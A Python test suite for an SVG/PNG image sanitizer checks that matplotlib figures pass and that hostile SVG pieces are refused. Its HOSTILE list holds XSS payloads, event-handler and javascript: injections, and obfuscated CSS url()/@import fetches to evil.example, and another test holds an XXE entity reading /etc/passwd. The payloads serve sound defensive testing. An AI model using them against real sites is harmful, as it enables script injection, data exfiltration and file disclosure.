"""Of a picture only what draws is shown, by any author."""

import base64
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlreg_dagster.core.display.plotting import as_markdown, new_figure
from mlreg_dagster.core.untrusted.pictures import MOST_BYTES, NotShown, picture_in

pytestmark = pytest.mark.pictures

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
PNG = b"\x89PNG\r\n\x1a\n" + b"0" * 20


def embedded(content, kind="svg+xml", words="words"):
    encoded = base64.b64encode(content.encode() if isinstance(content, str) else content).decode()
    return f"![{words}](data:image/{kind};base64,{encoded})"


def drawn_by_matplotlib():
    figure = new_figure()
    axes = figure.subplots()
    axes.imshow([[1, 2], [3, 4]])
    axes.bar([0, 1], [2, 3], hatch="//", label="bars")
    axes.set_title("<script>alert(1)</script> & url(http://x)")
    axes.legend()
    return as_markdown(figure, "bars")


def test_what_matplotlib_draws_is_shown_whole():
    picture = picture_in(drawn_by_matplotlib())
    root = ElementTree.fromstring(picture.content)
    names = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert (picture.words, picture.media_type) == ("bars", "image/svg+xml")
    assert {"path", "image", "text", "use", "pattern", "clipPath", "style"} <= names
    assert b"&lt;script&gt;" in picture.content
    assert b"DOCTYPE" not in picture.content


def test_a_png_is_shown_as_it_is():
    assert picture_in(embedded(PNG, "png")).content == PNG
    assert picture_in(embedded(PNG, "png")).media_type == "image/png"


HOSTILE = [
    "<script>alert(1)</script>",
    '<script href="https://evil.example/x.js"/>',
    '<rect onload="alert(1)"/>',
    '<rect ONCLICK="alert(1)"/>',
    '<rect onfocus="window.name = 1"/>',
    '<a xlink:href="https://evil.example"><rect/></a>',
    '<a href="javascript:alert(1)"><rect/></a>',
    '<image href="https://evil.example/x.png"/>',
    '<image xlink:href="//evil.example/x.png"/>',
    '<image href="data:image/svg+xml;base64,AAAA"/>',
    '<image href="data:text/html,x"/>',
    '<use href="https://evil.example/x.svg#a"/>',
    '<use href="data:image/png;base64,AAAA"/>',
    '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
    '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>',
    '<animate attributeName="href" to="javascript:alert(1)"/>',
    '<set attributeName="onload" to="alert(1)"/>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>g {}<g/>* { fill: url(https://evil.example/x) }</style>",
    "<style>* { fill: u<!-- -->rl(https://evil.example/x) }</style>",
    "<style>g {}<title>@import 'https://evil.example/x.css';</title></style>",
    "<style>* { fill: url(https://evil.example/x) }</style>",
    "<style>* { fill: u\\72l(https://evil.example/x) }</style>",
    "<style>* { background: image-set('https://evil.example/x' 1x) }</style>",
    "<style>@font-face { src: url(//evil.example/x) }</style>",
    '<rect fill="url(https://evil.example/x#a)"/>',
    "<rect fill=\"URL( 'https://evil.example/x' )\"/>",
    '<rect style="fill: url(&quot;//evil.example/x&quot;)"/>',
    '<rect style="behavior: expression(alert(1))"/>',
    '<text><feImage href="https://evil.example"/></text>',
    '<filter id="f"><feImage href="https://evil.example"/></filter>',
    "<unknown/>",
]


@pytest.mark.parametrize("piece", HOSTILE)
def test_a_picture_that_can_act_or_reach_out_is_not_shown(piece):
    with pytest.raises(NotShown):
        picture_in(embedded(SVG.format(f"<g>{piece}</g>")))


DRAWING = ["<path d='M 0 0'/>", "<g/>", "<text>url(http://x)</text>", "<rect fill='url(#a)'/>", "<use href='#a'/>"]


@given(st.lists(st.sampled_from(DRAWING), max_size=6), st.sampled_from(HOSTILE), st.data())
def test_one_hostile_piece_anywhere_is_enough(pieces, hostile, data):
    at = data.draw(st.integers(0, len(pieces)))
    inside = "".join([*pieces[:at], f"<g><g>{hostile}</g></g>", *pieces[at:]])
    with pytest.raises(NotShown):
        picture_in(embedded(SVG.format(inside)))
    harmless = picture_in(embedded(SVG.format("".join(pieces))))
    assert len(list(ElementTree.fromstring(harmless.content).iter())) == len(pieces) + 1


@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode), st.sampled_from(["svg+xml", "png"]))
def test_any_bytes_are_a_picture_or_refused(content, kind):
    try:
        picture = picture_in(embedded(content, kind))
    except NotShown:
        return
    assert picture.media_type == f"image/{kind}"


@pytest.mark.parametrize(
    "markdown",
    [
        "",
        "_A sentence._",
        "![x](https://evil.example/x.png)",
        "![x](data:text/html;base64,AAAA)",
        "![x](data:image/svg+xml;utf8,<svg/>)",
        embedded(SVG.format("")) + " and more",
        embedded("<svg/>"),
        embedded("<html xmlns='http://www.w3.org/1999/xhtml'/>"),
        embedded(SVG.format("").encode("utf-16")[:40]),
        embedded("<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + SVG.format("<text>&a;</text>")),
        embedded(b"GIF89a", "png"),
        "![x](data:image/png;base64,A)",
    ],
)
def test_what_is_no_picture_is_refused(markdown):
    with pytest.raises(NotShown):
        picture_in(markdown)


def test_what_an_editor_left_is_dropped():
    left = '<metadata><a href="https://editor.example"/></metadata><g xmlns:i="urn:i" i:x="y" id="g"/>'
    instruction = '<?xml-stylesheet href="https://evil.example/x.css"?><!-- https://evil.example -->'
    content = picture_in(embedded(instruction + SVG.format(left))).content.decode()
    assert 'id="g"' in content
    assert "example" not in content
    assert "urn:i" not in content


def test_one_that_is_too_large_is_refused():
    with pytest.raises(NotShown, match="bytes"):
        picture_in(embedded(SVG.format("<g/>" * (MOST_BYTES // 4))))
